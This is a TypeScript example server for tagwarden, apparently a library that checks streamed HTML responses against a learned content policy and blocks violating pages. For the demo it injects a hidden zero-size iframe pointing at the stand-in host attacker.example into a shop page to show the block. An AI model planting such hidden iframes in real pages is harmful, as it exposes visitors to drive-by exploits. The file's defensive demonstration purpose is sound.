/**
 * tagwarden in a fetch-style server — a handler from Request to Response, as undici, Hono on Node
 * and framework route handlers have them: `inspectResponse` gates the Response's body.
 *
 *   PORT=3000 node --import tsx examples/fetch.ts
 *
 * then open http://127.0.0.1:3000/ and /injected (the page with an attack <iframe> inserted: a 502).
 * The few lines of `serve` below are what such servers do on node:http (use yours: Hono's `serve`,
 * a framework's adapter). (In your code: `import { inspectResponse } from 'tagwarden/embed'` and
 * `import { loadPolicy } from 'tagwarden'`.)
 */
import { readFileSync } from 'node:fs'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { fileURLToPath } from 'node:url'
import { inspectResponse } from '../src/entries/embed.js'
import { loadPolicy } from '../src/index.js'

const page = readFileSync(new URL('./pages/shop.html', import.meta.url), 'utf8')
const ATTACK = '<iframe src="http://attacker.example/exploit" width="0" height="0"></iframe>'
// Loaded once; inspectResponse also takes a file name, an object or a CSP string.
const policy = await loadPolicy(fileURLToPath(new URL('./policies/learned.json', import.meta.url)))

/** The application: a page, as a streamed Response. */
async function app(request: Request): Promise<Response> {
  const html =
    new URL(request.url).pathname === '/injected' ? page.replace('<main>', `<main>${ATTACK}`) : page
  return new Response(html, { headers: { 'content-type': 'text/html; charset=utf-8' } })
}

/** The application behind tagwarden. */
async function handle(request: Request): Promise<Response> {
  return inspectResponse(await app(request), {
    policy,
    request,
    onViolation: (v) =>
      console.log(
        `violation: ${v.directive} <${v.element} ${v.attribute}="${v.value}"> on ${new URL(request.url).pathname}`,
      ),
  })
}

/** Resolves when `res` can take more, or has closed. */
function drained(res: ServerResponse): Promise<void> {
  return new Promise((resolve) => {
    const done = () => {
      res.off('drain', done).off('close', done)
      resolve()
    }
    res.on('drain', done).on('close', done)
  })
}

/** node:http in, Request out; Response in, bytes out. A body that errors (a block after the first byte) cuts the connection. */
function serve(handler: (request: Request) => Promise<Response>) {
  return createServer((req: IncomingMessage, res: ServerResponse) => {
    const headers = new Headers()
    for (const [name, value] of Object.entries(req.headers)) {
      for (const v of [value ?? ''].flat()) headers.append(name, v)
    }
    const request = new Request(`http://${req.headers.host ?? 'localhost'}${req.url}`, {
      method: req.method,
      headers,
    })
    void (async () => {
      const response = await handler(request)
      res.writeHead(response.status, response.statusText, [...response.headers].flat())
      if (response.body === null) return void res.end()
      const reader = response.body.getReader()
      res.once('close', () => void reader.cancel().catch(() => {}))
      for (let r = await reader.read(); !r.done; r = await reader.read()) {
        if (!res.write(r.value)) await drained(res)
      }
      res.end()
    })().catch(() => res.destroy())
  })
}

const server = serve(handle)
server.listen(Number(process.env.PORT ?? 3000), '127.0.0.1', () => {
  console.log(`listening on http://127.0.0.1:${(server.address() as AddressInfo).port}`)
})
